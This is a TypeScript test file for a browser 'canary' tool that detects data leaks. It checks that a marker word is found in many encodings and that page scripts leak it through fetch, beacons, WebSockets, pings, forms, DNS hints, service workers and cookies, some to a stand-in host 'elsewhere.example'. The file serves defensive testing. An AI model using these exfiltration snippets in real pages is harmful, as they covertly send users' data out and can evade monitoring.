/** The canary itself: that it sees a word leave by every way there is, in every form, and sees none that stays. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { beforeAll, describe, expect, test } from 'vitest'
import { Canary, type Leak, type Witness } from './canary'
import { Canaries, searcherFor } from './canary-words'

describe('a word is found', () => {
  const word = 'Zoë’sQuill'
  const search = searcherFor([{ word, place: 'a name' }])
  const bytes = Buffer.from(word)
  const wide = Buffer.from(word, 'utf16le')
  const inside = (text: string | Buffer) => Buffer.concat([Buffer.from('before '), Buffer.from(text as string), Buffer.from(' after')])

  test.each<[string, Buffer]>([
    ['as it is', inside(word)],
    ['in small letters', inside('zoë’squill')],
    ['in an address', inside(encodeURIComponent(word))],
    ['in a form', inside(new URLSearchParams({ name: `a ${word}` }).toString())],
    ['with every letter as a percent sign', inside(bytes.toString('hex').replace(/../g, '%$&'))],
    ['in an address in an address', inside(encodeURIComponent(encodeURIComponent('Zoë')) + bytes.toString('hex').replace(/../g, '%$&'))],
    ['in JSON', inside(JSON.stringify({ word }))],
    ['in JSON with escapes', inside([...word].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''))],
    ['in JSON with some escapes', inside('Zo\\u00eb\\u2019sQuill')],
    ['as entities', inside([...word].map((c) => `&#${c.charCodeAt(0)};`).join(''))],
    ['in UTF-16', inside(wide)],
    ['in UTF-16 the other way round', inside(Buffer.from(wide).swap16())],
    ['in hex', inside(bytes.toString('hex'))],
    ['in hex with capitals', inside(bytes.toString('hex').toUpperCase())],
    ['in hex of UTF-16', inside(wide.toString('hex'))],
    ['as a list of numbers', inside(JSON.stringify([...bytes]))],
    ['backwards', inside([...word].reverse().join(''))],
    ['backwards in base64', inside(Buffer.from([...word].reverse().join('')).toString('base64'))],
    ['in base64 of UTF-16', inside(wide.toString('base64'))],
    ['packed with gzip', gzipSync(`many words and ${word}`)],
    ['packed with deflate', deflateSync(`many words and ${word}`)],
    ['packed raw', deflateRawSync(`many words and ${word}`)],
  ])('%s', (_how, text) => {
    expect(search(text)[0]).toMatchObject({ word, place: 'a name' })
  })

  test.each([0, 1, 2, 3, 4, 5])('in base64 after %i other bytes, in both alphabets', (before) => {
    for (const alphabet of ['base64', 'base64url'] as const)
      for (const after of ['', '?', '>>', '~~~'])
        expect(search(inside(Buffer.from('?'.repeat(before) + word + after).toString(alphabet))).length).toBeGreaterThan(0)
  })

  test('and no other is', () => {
    for (const text of ['Zoë', 'Quill', 'Zoe’sQuill', 'nothing at all', Buffer.from('something else entirely').toString('base64')])
      expect(search(inside(text))).toEqual([])
    expect(() => searcherFor([{ word: 'short', place: '' }])).toThrow(/too short/)
  })
})

describe('a browser’s leaks', () => {
  const words = new Canaries()
  const kept = words.for('what stays on the device')
  const atTheEnd = words.for('a beacon when the page is left')
  let leaks: Leak[]
  let hosts: string[]

  /** Each leak: a script for the page, with the word it gives away. `elsewhere` is another host, which never really answers. */
  const ways: [name: string, witness: Witness, script: (word: string) => string][] = [
    ['the body of a fetch', 'sent', (word) => `fetch('/take', { method: 'POST', body: '${word}' })`],
    [
      'the body of a fetch to another host',
      'sent',
      (word) => `fetch('http://elsewhere.example/take', { method: 'POST', mode: 'no-cors', body: '${word}' })`,
    ],
    ['a header', 'sent', (word) => `fetch('/take', { headers: { 'X-Note': '${word}' } })`],
    [
      'an XMLHttpRequest in base64',
      'sent',
      (word) =>
        `new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('POST', '/take'); x.send(btoa('x${word}')) })`,
    ],
    [
      'a packed body',
      'sent',
      (word) =>
        `new Response(new Blob(['${word}']).stream().pipeThrough(new CompressionStream('gzip'))).blob().then((body) => fetch('/take', { method: 'POST', body }))`,
    ],
    [
      'the address of an image',
      'sent',
      (word) =>
        `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = '/pixel?' + encodeURIComponent('${word}') })`,
    ],
    [
      'a beacon',
      'sent',
      (word) => `navigator.sendBeacon('/take', new Blob([new Uint16Array([...'${word}'].map((c) => c.charCodeAt(0)))]))`,
    ],
    ['a ping', 'sent', (word) => `{ const a = document.createElement('a'); a.href = '#x'; a.ping = '/take?${word}'; a.click() }`],
    [
      'a web socket’s frame',
      'sent',
      (word) =>
        `new Promise((done) => { const s = new WebSocket('ws://elsewhere.example/'); s.onopen = () => { s.send('${word}'); setTimeout(done, 100) }; s.onerror = done })`,
    ],
    [
      'a web socket’s address',
      'sent',
      (word) =>
        `new Promise((done) => { const s = new WebSocket(location.origin.replace('http', 'ws') + '/?${word}'); s.onopen = s.onerror = done })`,
    ],
    [
      'a form',
      'sent',
      (word) =>
        `new Promise((done) => { const f = document.createElement('iframe'); f.name = 'f'; f.onload = done; document.body.append(f); const form = document.createElement('form'); form.target = 'f'; form.action = '/take'; form.method = 'post'; form.innerHTML = '<input name="n" value="${word}">'; document.body.append(form); form.submit() })`,
    ],
    [
      'a referrer',
      'sent',
      (word) =>
        `(history.pushState(null, '', '/?at=${word}'), fetch('/take', { referrerPolicy: 'unsafe-url' })).finally(() => history.replaceState(null, '', '/'))`,
    ],
    ['the part after # that becomes a query', 'sent', (word) => `(location.hash = '${word}', fetch('/take?' + location.hash.slice(1)))`],
    ['the part after #', 'address', (word) => `(location.hash = '/${word}/')`],
    [
      'a connection prepared',
      'hint',
      (word) =>
        `{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'https://${word.toLowerCase()}.example'; document.head.append(l) }`,
    ],
    [
      'a name looked up',
      'hint',
      (word) =>
        `{ const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'http://${word.toLowerCase()}.example'; document.head.append(l) }`,
    ],
    [
      'a worker’s request',
      'sent',
      (word) =>
        `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/take', { method: 'POST', body: '${word}' }).finally(() => postMessage(1))"]))); w.onmessage = done })`,
    ],
    ['the service worker’s request', 'sent', (word) => `tell({ send: '${word}' })`],
    ['the service worker’s cache', 'cache', (word) => `tell({ keep: '${word}' })`],
    [
      'an answer put in a cache',
      'cache',
      (word) => `caches.open('drafts').then((cache) => cache.put('/draft', new Response('{"name":"${word}"}')))`,
    ],
    [
      'an address put in a cache',
      'cache',
      (word) => `caches.open('drafts').then((cache) => cache.put('/draft?${word}', new Response('')))`,
    ],
    ['a cache’s name', 'cache', (word) => `caches.open('${word}').then((cache) => cache.put('/x', new Response('')))`],
    ['a service worker’s address', 'worker', (word) => `navigator.serviceWorker.register('/worker.js?${word}', { scope: '/elsewhere/' })`],
    ['a cookie', 'cookie', (word) => `(document.cookie = 'note=${word}')`],
    ['a call to another browser', 'call', (word) => `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${word}.example' }] })`],
    [
      'a request that a policy stops',
      'request',
      (word) =>
        `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'http://forbidden.example/?${word}' })`,
    ],
  ]
  const given = new Map(ways.map(([name]) => [name, words.for(name)]))

  beforeAll(async () => {
    const server = createServer((asked, answer) => {
      asked.resume()
      if (asked.url!.startsWith('/worker.js')) return answer.writeHead(200, { 'Content-Type': 'text/javascript' }).end(worker)
      if (asked.url!.startsWith('/favicon.svg'))
        return answer.writeHead(200, { 'Content-Type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg"/>')
      const policy = "img-src 'self'"
      answer
        .writeHead(200, { 'Content-Type': 'text/html', 'Content-Security-Policy': policy })
        .end('<!doctype html><title>Leaky</title><body>')
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const site = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    const canary = await Canary.start(site)
    const page = await canary.context.newPage()
    await page.goto(site)
    await page.evaluate(`navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)`)
    await page.evaluate(`globalThis.tell = (what) => new Promise(async (done) => {
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = done
      ;(await navigator.serviceWorker.ready).active.postMessage(what, [port2])
    })`)
    for (const [name, , script] of ways) await page.evaluate(`(async () => { await ${wrapped(script(given.get(name)!))} })()`)
    await page.evaluate(`(async () => {
      localStorage.setItem('draft', '${kept}')
      document.body.append('${kept}')
      document.title = '${kept}'
      new BroadcastChannel('tabs').postMessage('${kept}')
      addEventListener('pagehide', () => navigator.sendBeacon('/take', '${atTheEnd}'))
      await new Promise((done) => { const open = indexedDB.open('drafts', 1); open.onupgradeneeded = () => open.result.createObjectStore('d').put('${kept}', 1); open.onsuccess = done })
    })()`)
    leaks = await canary.finish(words.words)
    hosts = canary.hosts()
    await new Promise((resolve) => (server.close(resolve), server.closeAllConnections()))
  })

  test.each(ways.map(([name, witness]) => [name, witness] as const))('by %s are seen', (name, witness) => {
    const seen = leaks.filter(({ place }) => place === name)
    expect(seen.map(({ witness }) => witness)).toContain(witness)
  })

  test('when the page is left are seen', () => {
    expect(leaks.find(({ word }) => word === atTheEnd)).toMatchObject({ witness: expect.stringMatching(/sent|request/) })
  })

  test('are told apart from what stays', () => {
    expect(leaks.filter(({ word }) => word === kept)).toEqual([])
  })

  test('stand in the browser’s own log too where they are in an address or a header', () => {
    for (const name of ['a header', 'the address of an image', 'a web socket’s address', 'a referrer'])
      expect(leaks.filter(({ place, witness }) => place === name && witness === 'network log')).not.toEqual([])
  })

  test('to other hosts are told by those hosts', () => {
    expect(hosts).toEqual(expect.arrayContaining(['elsewhere.example', 'elsewhere.example:80']))
    expect(hosts).not.toContain('forbidden.example')
  })
})

/** A block of statements as something to wait for. */
const wrapped = (script: string): string => (script.startsWith('{') ? `(async () => ${script})()` : script)

const worker = `addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('message', ({ data, ports: [port] }) => {
  const work = data.send
    ? fetch('/take', { method: 'POST', body: data.send })
    : caches.open('worker').then((cache) => cache.put('/kept', new Response(data.keep)))
  work.finally(() => port.postMessage(1))
})`
